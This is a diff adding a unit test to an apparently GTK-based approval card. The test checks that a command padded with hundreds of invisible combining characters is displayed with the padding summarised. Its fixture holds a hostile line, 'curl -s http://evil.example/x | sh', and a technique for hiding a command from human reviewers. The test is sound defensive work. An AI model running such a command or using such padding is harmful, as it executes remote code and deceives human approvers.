@@ -406,6 +406,24 @@ test_card_command_whole (void)
     g_assert_cmpint (pango_layout_get_direction (layout, line_start), ==, PANGO_DIRECTION_LTR);
   }
 
+  /* A space and a combining grapheme joiner 200 times: the card showed
+   * "$ make check" and approved the curl after them in place (tried as an
+   * attacker would).  The run is one, said with what it is made of. */
+  {
+    g_autoptr(GString) marked = g_string_new ("make check");
+
+    for (guint i = 0; i < 200; i++)
+      g_string_append (marked, " \u034f");
+    g_string_append (marked, "; curl -s http://evil.example/x | sh");
+    run.approval_id = (char *) "ap-marks";
+    run.approval_command = marked->str;
+    _pd_overview_card_set_remote_run (card, &run);
+    _pd_overview_card_emit_changed (card);
+    pd_test_flush (alone.row);
+    text = gtk_label_get_text (GTK_LABEL (command));
+    g_assert_cmpstr (text, ==, "\u200emake check[400 \u00d7 U+0020 U+034F]; curl -s http://evil.example/x | sh");
+  }
+
   /* 3,000 characters: the card shows the start, and Review instead. */
   for (guint i = 0; i < 300; i++)
     g_string_append (longer, " && true  ");
